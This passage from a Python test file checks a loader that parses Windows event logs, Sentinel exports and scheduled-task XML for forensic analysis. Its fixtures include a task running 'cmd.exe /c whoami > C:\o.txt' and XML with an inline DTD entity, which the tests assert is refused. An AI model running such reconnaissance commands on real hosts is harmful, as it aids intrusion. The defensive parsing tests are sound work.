    fields = _fields(channel=channel, event_id=event_id, data=data)
    assert subset(fields, expected) == expected


def test_xmltodict_and_unnamed_evtx_json() -> None:
    from loaders.windows_events.from_json import from_json_value

    ev = from_json_value({"Event": {
        "@xmlns": "http://schemas.microsoft.com/win/2004/08/events/event",
        "System": {"Provider": {"@Name": "Microsoft-Windows-Security-Auditing"},
                   "EventID": {"@Qualifiers": "", "#text": "4624"},
                   "TimeCreated": {"@SystemTime": "2024-01-01T00:00:00.1234567Z"},
                   "EventRecordID": "77", "Channel": "Security", "Computer": "h1"},
        "EventData": {"Data": [{"@Name": "TargetUserName", "#text": "bob"},
                               {"@Name": "IpAddress", "#text": "::ffff:10.1.2.3"}]}}})
    assert isinstance(ev, WinEvent)
    assert (ev.event_id, ev.record_id, ev.data) == (
        4624, 77, {"TargetUserName": "bob", "IpAddress": "::ffff:10.1.2.3"})
    ev = from_json_value({"Event": {"System": {
        "EventID": {"#attributes": {"Qualifiers": 16384}, "#text": 7045},
        "TimeCreated": {"#attributes": {"SystemTime": "2024-01-01T00:00:00Z"}}},
        "EventData": {"Data": {"#text": ["a", "b"]}, "Binary": "00FF"},
        "UserData": {"LogFileCleared": {"#attributes": {"xmlns": "x"},
                                        "SubjectUserName": "alice"}}}})
    assert isinstance(ev, WinEvent)
    assert (ev.event_id, ev.data) == (
        7045, {"Data": ["a", "b"], "Binary": "00FF", "SubjectUserName": "alice"})


def test_sentinel_event_table_xml_eventdata_and_refused_dtd() -> None:
    from loaders.windows_events.from_json import from_json_value

    ev = from_json_value({
        "TimeGenerated": "2024-01-01T00:00:00Z", "EventLog": "Microsoft-Windows-Sysmon/Operational",
        "Source": "Microsoft-Windows-Sysmon", "Computer": "h1", "EventID": 1,
        "EventData": '<DataItem type="System.XmlData"><EventData xmlns="http://schemas.'
                     'microsoft.com/win/2004/08/events/event"><Data Name="Image">C:\\a.exe'
                     '</Data><Data Name="CommandLine">a.exe -x</Data></EventData></DataItem>'})
    assert isinstance(ev, WinEvent)
    assert (ev.channel, ev.provider, ev.data) == (
        "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon",
        {"Image": "C:\\a.exe", "CommandLine": "a.exe -x"})
    ev = from_json_value({"EventID": 1, "Channel": "x", "TimeCreated": "2024-01-01T00:00:00Z",
                          "Image": "C:\\a.exe",
                          "EventData": '<!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>'})
    assert isinstance(ev, WinEvent)
    assert ev.warnings == ["eventdata: EventData XML refused (DTDForbidden): DTDs and entities "
                           "are never expanded"]
    item = LOADER.event_item(ev, 3, "raw")
    assert item.fields["process_image"] == "C:\\a.exe"  # type: ignore[union-attr]
    assert item.warnings == ev.warnings  # type: ignore[union-attr]


def test_task_command_plain_escaped_and_refused() -> None:
    from loaders.windows_events.shapes import task_command

    task = ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task xmlns="http://schemas.microsoft.com/'
            'windows/2004/02/mit/task"><Actions Context="Author"><Exec><Command>cmd.exe</Command>'
            '<Arguments>/c whoami &gt; C:\\o.txt</Arguments></Exec></Actions></Task>')
    assert task_command(task) == "cmd.exe /c whoami > C:\\o.txt"
    escaped = task.replace("&gt;", "&amp;gt;").replace("<", "&lt;").replace(">", "&gt;")
    assert task_command(escaped) == "cmd.exe /c whoami > C:\\o.txt"
    with pytest.raises(Exception, match="DTDForbidden"):
        task_command('<!DOCTYPE t [<!ENTITY a "b">]><Task>&a;</Task>')


def test_xml_of_another_kind_stops_after_the_initial_reject_limit(tmp_path: Path) -> None:
    bad = tmp_path / "not_events.xml"
    bad.write_text("<Event><System><EventID>x</System></Event>\n" * 50)
    result = loaders.load(bad, format="windows_events")
    assert result.status == "failed" and result.counts.read == 20
    assert "probably not windows_events input" in (result.error or "")


def test_a_sentinel_syslog_csv_export_loads_as_its_json_form(tmp_path: Path) -> None:
    """The portal's "Export to CSV" of the same Syslog rows (``TimeGenerated [UTC]`` column
    names, the XML quoted with doubled quotes, a CRON message spanning two lines): the same
    events, values and event_uid as the JSON Lines export; the cut XML rejected likewise."""
    import csv
    import io

    rows = [json.loads(line) for line in (DIR / SENTINEL_SYSLOG).read_text().splitlines()
            if line.strip()]
    names = list(rows[0])
    header = [f"{n} [UTC]" if n in ("TimeGenerated", "EventTime") else n for n in names]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    for r in rows:
        cells = [str(r.get(n, "")) for n in names]
        if r.get("ProcessName") == "CRON":
            cells[names.index("SyslogMessage")] += "\n(continued)"  # a quoted newline
        writer.writerow(cells)
    path = tmp_path / "Syslog_export.csv"
    path.write_text(out.getvalue())
    got = loaders.load(path)
    assert got.source == "windows_events"
    c = got.counts
    assert (c.read, c.loaded, c.rejected, c.duplicate) == (4, 3, 1, 0)
    assert got.warnings == ["1 Syslog table rows without Sysmon event XML were skipped"]
    assert got.rejects.iloc[0]["reason"] == (
        "truncated event XML: SyslogMessage ends before </Event> (syslog message length "
        "limit?)")
    as_json = load(SENTINEL_SYSLOG).events
    assert got.events["event_uid"].tolist() == as_json["event_uid"].tolist()
    columns = [c for c in as_json.columns if c not in ("raw", "source_file", "source_line",
                                                        "ingest_id")]
    pd.testing.assert_frame_equal(got.events[columns].reset_index(drop=True),
                                  as_json[columns].reset_index(drop=True))
    # rows are numbered by their first line: the header is line 1, the CRON row spans 4-5
    assert got.events["source_line"].tolist() == [2, 3, 6]
